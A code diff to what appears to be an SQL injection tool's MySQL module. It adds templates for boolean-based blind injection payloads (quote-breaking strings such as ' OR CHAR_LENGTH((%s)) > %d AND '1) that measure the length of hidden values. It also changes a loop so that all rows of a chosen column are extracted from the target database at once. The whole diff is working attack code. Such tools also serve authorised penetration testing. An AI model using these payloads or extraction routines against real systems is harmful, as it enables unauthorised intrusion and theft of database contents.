@@ -56,6 +56,17 @@ class MySQLMap(Common):
         elif self.args.injectionMethod == "stringdouble":
             evilStm = '" OR ORD(MID((%s), %d, %d)) > %d AND "1'
         return evilStm
+
+    def createLengthStm(self):
+        # CHAR_LENGTH() because LENGTH() counts bytes and SUBSTRING() counts
+        # characters
+        if self.args.injectionMethod == "numeric":
+            evilStm = " OR CHAR_LENGTH((%s)) > %d"
+        elif self.args.injectionMethod == "stringsingle":
+            evilStm = "' OR CHAR_LENGTH((%s)) > %d AND '1"
+        elif self.args.injectionMethod == "stringdouble":
+            evilStm = '" OR CHAR_LENGTH((%s)) > %d AND "1'
+        return evilStm
         
     def createExactStm(self):
         if self.args.injectionMethod == "numeric":
@@ -452,11 +463,14 @@ class MySQLMap(Common):
             columnData = {}
             columnValues[column] = {}
 
+            stms = []
             for index in range(int(count)):
                 stm  = "SELECT %s FROM %s " % (column, fromExpr)
                 stm += "LIMIT %d, 1" % index
-                value = self.getValue(stm)
+                stms.append(stm)
 
+            # All the rows are extracted at the same time
+            for value in self.getValues(stms):
                 length = max(length, len(str(value)))
                 values.append(value)
 